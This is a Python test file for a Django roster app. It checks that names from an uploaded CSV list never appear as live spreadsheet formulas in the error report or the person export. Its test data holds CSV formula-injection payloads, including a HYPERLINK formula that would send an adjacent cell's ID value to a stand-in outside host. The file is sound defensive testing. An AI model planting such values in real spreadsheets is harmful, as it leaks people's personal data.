"""Names from an uploaded list never reach a download as live formulas."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from dayao_sscard.models import Job, JobKind
from roster.services import list_import_start
from tests.factories import make_id_number

HYPERLINK = '=HYPERLINK("http://x.example/?id="&H2,"点击")'
NAMES = [HYPERLINK, "+1+1", "-1+2", "@SUM(A1)"]


def csv_upload(rows: list[list]) -> SimpleUploadedFile:
    text = io.StringIO()
    csv.writer(text).writerows([["姓名", "身份证号码", "乡镇"], *rows])
    return SimpleUploadedFile("名单.csv", text.getvalue().encode("gb18030"))


def cells_of(job: Job) -> list:
    with job.result_file.open("rb") as handle:
        sheet = openpyxl.load_workbook(handle).active
        return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


@pytest.fixture
def imported(county_admin, django_capture_on_commit_callbacks):
    rows = [[name, make_id_number(), "金碧"] for name in NAMES]
    rows.append(["赵六", "=1+1", "金碧"])  # an unusable ID number: a row of the report
    with django_capture_on_commit_callbacks(execute=True):
        job = list_import_start(
            acting_user=county_admin,
            kind="unissued",
            source="省第一批",
            uploaded_file=csv_upload(rows),
        )
    job.refresh_from_db()
    assert job.status == "succeeded", job.error
    return job


@pytest.mark.django_db
def test_the_import_error_report_holds_no_formula(imported):
    cells = cells_of(imported)
    assert [c for c in cells if c.data_type == "f"] == []
    assert "=1+1" in [c.value for c in cells]


@pytest.mark.django_db
def test_the_person_export_holds_no_formula(
    client, county_admin, imported, django_capture_on_commit_callbacks
):
    client.force_login(county_admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("roster:person-export"), {"township": "532326101"})
    job = Job.objects.get(kind=JobKind.EXPORT)
    cells = cells_of(job)
    assert [c for c in cells if c.data_type == "f"] == []
    names = {c.value for c in cells if c.column == 5}
    assert names == set(NAMES)
    numbers = [c for c in cells if c.column == 1]
    assert {c.data_type for c in numbers} == {"n"}
